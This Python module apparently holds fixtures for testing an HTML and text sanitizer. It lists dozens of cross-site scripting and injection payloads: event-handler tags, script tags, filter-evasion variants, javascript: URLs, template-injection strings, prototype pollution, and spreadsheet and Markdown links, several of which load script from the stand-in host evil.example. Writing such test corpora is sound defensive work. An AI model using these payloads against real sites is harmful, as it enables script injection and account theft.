"""Texts that would run where a text is taken for markup, for code or for an address; each sets `window.hacked`."""

_DO = "window.hacked=1"
_AWAY = "https://evil.example/x"
_EVENTS = (
    "onload", "onerror", "onfocus", "onblur", "onclick", "onmouseover", "onmouseenter", "onpointerover", "onkeydown",
    "onanimationstart", "ontransitionend", "ontoggle", "onscroll", "onresize", "onwheel", "oncopy", "onbegin", "onend",
    "onstart", "oncanplay", "onpageshow", "onhashchange", "onmessage", "onbeforetoggle", "onscrollend",
    "onsecuritypolicyviolation",
)  # fmt: skip
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe",
    "marquee",
)
MARKUP = (
    *(f"<{_TAGS[at % len(_TAGS)]} {event}={_DO}>" for at, event in enumerate(_EVENTS)),
    *(f"<img src=x onerror{space}={space}{_DO}>" for space in (" ", "\t", "\u00a0", "\u200b")),
    *(f"<{tag} onerror={_DO} src=x>" for tag in ("IMG", "iMg", "image", "img/", "img\x0b", "embed", "object",
    "source")),
    f"<script>{_DO}</script>", f"<SCRIPT>{_DO}</SCRIPT>", f"<script/x>{_DO}</script>", f"<script>{_DO}//",
    f"<<script>script>{_DO}<</script>/script>", f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"<script src={_AWAY}></script>", f"<script src=data:text/javascript,{_DO}></script>",
    f"<script type=module>{_DO}</script>", f'<script type="importmap">{{"imports":{{"x":"{_AWAY}"}}}}</script>',
    f"<svg><script>{_DO}</script></svg>", f"<svg/onload={_DO}>", f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><set onbegin={_DO} attributename=x>", f"<svg><a xlink:href=javascript:{_DO}><text y=20>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={_DO}>#x\">", f"<math href=javascript:{_DO}>x</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}>", f"<a href=javascript:{_DO}>x</a>",
    f"<a href=java\tscript:{_DO}>x</a>", f"<a href=&#106;avascript:{_DO}>x</a>",
    f"<form action=javascript:{_DO}><button>x",
    f"<button formaction=javascript:{_DO}>x", f"<iframe src=javascript:{_DO}></iframe>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>', f"<iframe src={_AWAY}></iframe>",
    f"<object data=javascript:{_DO}>", f"<embed src=javascript:{_DO}>", f"<embed src={_AWAY}>",
    f"<link rel=stylesheet href={_AWAY}>", f"<link rel=prefetch href={_AWAY}>", f"<base href={_AWAY}/>",
    f"<meta http-equiv=refresh content=0;url=javascript:{_DO}>", f"<meta http-equiv=refresh content=0;url={_AWAY}>",
    f"<img src={_AWAY}>", f"<img srcset={_AWAY}>", f"<picture><source srcset={_AWAY}><img></picture>",
    f"<video poster={_AWAY}>", f"<input type=image src={_AWAY}>", f"<body background={_AWAY}>",
    f"<style>@import '{_AWAY}';</style>", f"<div style=background:url({_AWAY})>x</div>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_DO}>x</b>",
    f"<template shadowrootmode=open><img src=x onerror={_DO}></template>",
    f"<xss autofocus tabindex=1 onfocus={_DO}>x</xss>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_DO}>\">", f"<!--><img src=x onerror={_DO}>-->",
    f"<![CDATA[><img src=x onerror={_DO}>]]>", f"<?xml ?><img src=x onerror={_DO}>",
    f"</title><img src=x onerror={_DO}>",
    f"</textarea><img src=x onerror={_DO}>", f"</script><img src=x onerror={_DO}>",
    f"</style><img src=x onerror={_DO}>",
    f"</option></select><img src=x onerror={_DO}>",
)  # fmt: skip
ATTRIBUTES = (
    f'" onmouseover="{_DO}', f"' onmouseover='{_DO}", f'" autofocus onfocus="{_DO}" x="', f"` onload=`{_DO}",
    f'"><img src=x onerror={_DO}>', f"'><img src=x onerror={_DO}>", f'"><script>{_DO}</script>', f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}//", f"data:text/html,<script>{_DO}</script>", f'x" style="background:url({_AWAY})',
    f"&lt;img src=x onerror={_DO}&gt;", f"&#60;img src=x onerror={_DO}&#62;", f"\\u003cimg src=x onerror={_DO}\\u003e",
    f"\uff1cimg src=x onerror={_DO}\uff1e",
)  # fmt: skip
CODE = (
    f"${{{_DO}}}", f"`${{{_DO}}}`", f"{{{{{_DO}}}}}", f"{{{{constructor.constructor('{_DO}')()}}}}", f"#{{{_DO}}}",
    f"<%= {_DO} %>", f"{{% {_DO} %}}", f"';{_DO};'", f'";{_DO};"', f"\\';{_DO};//", f"*/{_DO}/*", f"{{@html {_DO}}}",
    f"[[{_DO}]]", f"@{{{_DO}}}", f"</script><script>{_DO}</script>", '{"__proto__":{"hacked":1}}', "__proto__",
    "constructor", f"[x](javascript:{_DO})", f"![x]({_AWAY})", f"[x]: {_AWAY}",
    f"=HYPERLINK(\"{_AWAY}\")", "\u202etxt.exe",
)  # fmt: skip
PAYLOADS = (*MARKUP, *ATTRIBUTES, *CODE)
